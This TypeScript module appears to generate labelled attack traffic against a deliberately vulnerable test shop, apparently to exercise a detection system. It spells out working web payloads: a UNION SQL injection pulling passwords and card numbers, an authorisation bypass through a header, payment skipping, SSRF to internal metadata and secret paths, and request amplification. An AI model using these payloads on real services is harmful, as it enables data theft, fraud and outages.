/**
 * Attacks that one request shows, each sent by one client of its own through the edge proxy like any other request. What
 * they need are the holes documented in datasets/shop/README.md.
 */
import { ACCOUNTS, firstOrderOf, PRODUCTS } from '../shop/database/schema.ts';
import type { Actor } from './actor.ts';
import { mustHold, repeat, type Scenario, type Stage, TRIES } from './scenario.ts';

/** Above the greatest fan-out of a page (eight products) by more than an order of magnitude. */
const AMPLIFIED_CALLS = 160;
/** The pages ask the reports' database to rest 30 ms at most. */
const SLOW_PACE_MS = 5_000;

export async function signedIn(stage: Stage, account: number): Promise<Actor> {
  const actor = stage.stranger();
  await actor.signIn(account);
  return actor;
}

const sqlInjection: Scenario = {
  name: 'sql-injection',
  kind: 'attack',
  title: 'SQL injection through the product search',
  expected: { kinds: ['statement', 'attack-pattern', 'parameter'], services: ['catalog', 'gateway'] },
  async run(stage) {
    const actor = stage.stranger();
    const columns = stage.random.pick(['id, email, password, 0', 'id, email, card, 0', 'id, card, email, 1']);
    await repeat(stage, TRIES, async (turn) => {
      // Only the first apostrophe is doubled: the second one closes the literal.
      const q = `x'' union select ${columns} from accounts where id > ${turn * 12} order by 1 limit 12 -- `;
      const answer = await actor.act({ method: 'GET', path: `/search?${new URLSearchParams({ q })}` });
      mustHold(JSON.stringify(answer.body).includes('@mail.example'), 'no accounts were read');
    });
    return { actors: [actor] };
  },
};

const skippedAuthorization: Scenario = {
  name: 'skipped-authorization',
  kind: 'attack',
  title: "Others' orders read without the authorisation check",
  expected: { kinds: ['required-child', 'child-set'], services: ['orders', 'gateway'] },
  async run(stage) {
    const account = stage.customer();
    const actor = await signedIn(stage, account);
    const foreign = firstOrderOf(account) + 1 + stage.random.below(ACCOUNTS - 100);
    await repeat(stage, TRIES, async (turn) => {
      const answer = await actor.act({
        method: 'GET',
        path: `/orders/${1 + ((foreign + turn) % ACCOUNTS)}`,
        headers: { 'x-channel': 'legacy-pos' },
      });
      mustHold(answer.status === 200, 'no foreign order was read');
    });
    return { actors: [actor] };
  },
};

const skippedPayment: Scenario = {
  name: 'skipped-payment',
  kind: 'attack',
  title: 'Checkout without payment',
  expected: { kinds: ['required-child', 'child-set'], services: ['orders', 'gateway'] },
  async run(stage) {
    const actor = await signedIn(stage, stage.customer());
    await repeat(stage, TRIES, async () => {
      const product = 1 + 2 * stage.random.below(40);
      await actor.prepare({ method: 'POST', path: '/cart/items', body: { product, quantity: 2 } });
      const answer = await actor.act({ method: 'POST', path: '/checkout', body: { prepaid: true } });
      mustHold(answer.status === 201, 'no order was placed');
    });
    return { actors: [actor] };
  },
};

const lateralMovement: Scenario = {
  name: 'lateral-movement',
  kind: 'attack',
  title: 'The catalog made to ask the payment service, which it never calls',
  expected: { kinds: ['service-pair', 'unseen-edge'], services: ['catalog', 'payment', 'gateway'] },
  async run(stage) {
    const actor = stage.stranger();
    await repeat(stage, TRIES, async () => {
      const product = 1 + stage.random.below(40);
      const account = 1 + stage.random.below(90);
      const path = `/products/${product}?include=payment.ListCards&account=${account}`;
      const answer = await actor.act({ method: 'GET', path });
      mustHold(JSON.stringify(answer.body).includes('cards'), 'no cards were read');
    });
    return { actors: [actor] };
  },
};

const ssrf: Scenario = {
  name: 'ssrf',
  kind: 'attack',
  title: 'The worker made to fetch from inside (SSRF through a queue)',
  expected: { kinds: ['egress', 'attack-pattern', 'parameter'], services: ['worker', 'auth'] },
  async run(stage) {
    const account = stage.customer();
    const actor = await signedIn(stage, account);
    const port = await stage.unusedPort();
    const path = stage.random.pick(['latest/meta-data/iam', 'admin/export', 'v1/secrets']);
    await repeat(stage, TRIES, async () => {
      const body = { url: `http://127.0.0.1:${port}/${path}` };
      const answer = await actor.act({ method: 'POST', path: '/account/avatar', body });
      mustHold(answer.status === 202, 'no job was queued');
    });
    // on Kafka, read by the batch, others' jobs may have been taken with it
    const companions = await stage.inBatchesOf('avatars', account, TRIES);
    mustHold(companions.includes(actor.address), 'no job was taken');
    const named = { by: companions.length > 1 ? 'batch' : 'client', key: actor.address } as const;
    return { actors: [actor], companions, named };
  },
};

const amplification: Scenario = {
  name: 'amplification',
  kind: 'attack',
  title: `One request amplified into ${AMPLIFIED_CALLS} calls`,
  expected: { kinds: ['fan-out'], services: ['orders', 'inventory', 'gateway'] },
  async run(stage) {
    const actor = await signedIn(stage, stage.customer());
    await repeat(stage, 2, async () => {
      const first = stage.random.below(PRODUCTS - AMPLIFIED_CALLS);
      const products = Array.from({ length: AMPLIFIED_CALLS }, (_, i) => 1 + first + i);
      const answer = await actor.act({ method: 'POST', path: '/cart/availability', body: { products } });
      mustHold(answer.status === 200, 'the request was refused');
    });
    return { actors: [actor] };
  },
};

const slowQuery: Scenario = {
  name: 'slow-query',
  kind: 'attack',
  title: `A report whose query takes ${SLOW_PACE_MS / 1000} s`,
  expected: { kinds: ['self-time', 'latency', 'collective'], services: ['reports', 'gateway'] },
  async run(stage) {
    const actor = await signedIn(stage, stage.staff());
    await repeat(stage, 2, async () => {
      const answer = await actor.act({ method: 'GET', path: `/admin/sales?days=30&pace=${SLOW_PACE_MS}` });
      mustHold(answer.status === 200, 'the report was refused');
    });
    return { actors: [actor] };
  },
};

export const REQUEST_ATTACKS: readonly Scenario[] = [
  sqlInjection,
  skippedAuthorization,
  skippedPayment,
  lateralMovement,
  ssrf,
  amplification,
  slowQuery,
];
